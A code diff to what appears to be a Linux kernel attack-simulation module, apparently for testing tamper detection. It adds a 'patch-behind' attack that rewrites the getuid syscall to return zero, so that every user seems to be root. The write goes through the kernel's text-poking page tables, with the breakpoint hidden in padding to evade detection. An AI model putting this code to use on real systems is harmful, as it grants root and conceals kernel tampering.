@@ -10,11 +10,15 @@
 #include <linux/vmalloc.h>
 #include <asm/page.h>
 #include <asm/sections.h>
+#include <asm/special_insns.h>
+#include <asm/text-patching.h>
 #include <asm/tsc.h>
 
 #include "attacks.h"
 
 #define PATCH_MAX	8
+
+static const u8 return_zero[] = { 0x31, 0xc0, 0xc3 };	/* xor %eax,%eax; ret */
 
 struct patch {
 	u8 *at, old[PATCH_MAX], bad[PATCH_MAX];
@@ -105,7 +109,6 @@ static struct patch text;
 /* [FUNCTION[+OFFSET]]: returns 0 from there on. Default: getuid, so every user seems to be root. */
 static int text_begin(struct attack *attack, char *argument)
 {
-	static const u8 return_zero[] = { 0x31, 0xc0, 0xc3 };	/* xor %eax,%eax; ret */
 	char function[] = "__x64_sys_getuid";
 	unsigned long at = symbol_with_offset(*argument ? argument : function);
 
@@ -174,4 +177,70 @@ struct attack patch_rodata = {
 	.begin = rodata_begin,
 	.undo = rodata_undo,
 	.present = rodata_present,
+};
+
+/*
+ * Overwrites a function as Linux patches one: in the address space of its own
+ * patches, behind a breakpoint. But the breakpoint is in the padding ahead of
+ * the function, where it has no effect.
+ */
+static struct patch behind;
+static u8 behind_ahead;
+
+static int behind_write(u8 ahead, const u8 *bytes, bool first)
+{
+	struct mm_struct **space = (void *)symbol("poking_mm");
+	u8 *alias = alias_map(behind.at - 1);
+	unsigned long flags, cr3;
+
+	if (!space || !alias)
+		return -ENOMEM;
+	local_irq_save(flags);
+	cr3 = __native_read_cr3();
+	native_write_cr3(__pa((*space)->pgd));
+	if (first)
+		WRITE_ONCE(*alias, ahead);
+	overwrite(alias + 1, bytes, behind.bytes);
+	if (!first)
+		WRITE_ONCE(*alias, ahead);
+	native_write_cr3(cr3);
+	local_irq_restore(flags);
+	alias_unmap(alias);
+	return 0;
+}
+
+static int behind_begin(struct attack *attack, char *unused)
+{
+	int error;
+
+	behind.at = (u8 *)symbol("__x64_sys_getuid");
+	behind.bytes = sizeof(return_zero);
+	if (!behind.at)
+		return -ENOENT;
+	memcpy(behind.old, behind.at, behind.bytes);
+	behind_ahead = behind.at[-1];
+	snprintf(attack->about, sizeof(attack->about), "%pS", behind.at);
+	attack->tsc = rdtsc_ordered();
+	error = behind_write(INT3_INSN_OPCODE, return_zero, true);
+	if (!error)
+		attack_done(attack);
+	return error;
+}
+
+static bool behind_present(struct attack *attack)
+{
+	return !memcmp(behind.at, return_zero, sizeof(return_zero));
+}
+
+static void behind_undo(struct attack *attack)
+{
+	if (behind_present(attack))
+		behind_write(behind_ahead, behind.old, false);
+}
+
+struct attack patch_behind = {
+	.name = "patch-behind",
+	.begin = behind_begin,
+	.undo = behind_undo,
+	.present = behind_present,
 };
